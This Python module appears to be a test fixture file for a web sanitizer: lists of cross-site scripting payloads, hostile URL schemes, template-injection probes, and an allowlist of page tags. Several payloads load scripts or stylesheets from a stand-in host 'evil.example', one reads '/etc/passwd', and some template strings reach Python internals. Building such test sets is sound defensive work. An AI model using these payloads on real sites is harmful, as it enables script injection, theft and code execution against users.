"""Hostile texts: scripts in markup, links that run code, template code; and the tags of a page."""

from __future__ import annotations

from itertools import product

_TAGS = (
    "img", "svg", "body", "video", "audio", "input", "details", "select", "textarea", "marquee",
    "iframe", "object", "embed", "form", "button", "a", "p", "math", "style", "keygen",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle")
_WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0a>alert(1)</script\x0a>".replace("\x0a", " "),
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    '[x](https://a.org/" onmouseover="alert(1))',
    "[x](<https://a.org/\" onmouseover='alert(1)'>)",
    "[x]: javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<table background=javascript:alert(1)>",
    "<div style=width:expression(alert(1))>",
    "<style>@import '//evil.example/x.css';</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<\u2028script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "1. </li><script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "[x](</a><script>alert(1)</script>)",
)
SCRIPTS = [
    *_WHOLE,
    *(f"<{tag} src=x {event}=alert(1) autofocus>" for tag, event in product(_TAGS, _EVENTS)),
]
"""Each shows `alert` where it runs."""

_SCHEMES = (
    "javascript", "vbscript", "data", "file", "jar", "blob", "view-source", "feed", "livescript",
    "mocha", "about", "chrome", "resource", "ws", "ftp", "intent", "ms-its", "filesystem",
)  # fmt: skip
LINKS = [
    *(f"{scheme}:alert(1)" for scheme in _SCHEMES),
    *(f"{scheme.upper()}:alert(1)" for scheme in _SCHEMES),
    "feed:javascript:alert(1)",
    "feed:data:text/html,x",
    "view-source:javascript:alert(1)",
    "jar:https://a.org!/x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/gif;base64,R0lGODlhAQABAAAAACw=",
    "//evil.example/x",
    "///evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "https:\\\\evil.example",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript:https://a.org",
    "javascript://a.org/%0aalert(1)",
    "file:///etc/passwd",
    "/etc/passwd",
    "../../x.html",
    "mailto:",
]

TEMPLATES = [
    *(
        f"{opens} {code} {closes}"
        for (opens, closes), code in product(
            (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]")),
            ("7*7", "config", "self", "include 'base.html'", "cycler.__init__.__globals__"),
        )
    ),
    "{# a comment #}",
    "{{ '7'*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,2) %}x{% endfor %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ site.title }}",
    "{{ trial.nct_id }}",
    "{%- if true -%} x {%- endif -%}",
    "{{ prose('x') }}",
    "{{ [].append(1) }}",
    "{{{ 7*7 }}}",
    "{% extends 'base.html' %}",
]

_TAGS_OF_A_PAGE = """
html head body title meta link script main header footer nav section article aside div span p
    a ul ol li dl dt dd h1 h2 h3 h4 h5 h6 em strong code pre blockquote hr br table caption thead
    tbody tfoot tr th td form input button label select option details summary time img svg g path
    line rect circle text title desc image figure figcaption noscript abbr small sup sub i b mark
    output fieldset legend template address symbol use defs clippath polyline polygon tspan
    colgroup col search bdi q cite data
"""
ALLOWED_TAGS = frozenset(_TAGS_OF_A_PAGE.split())
"""Elements the templates and Markdown make; no others are on a page."""
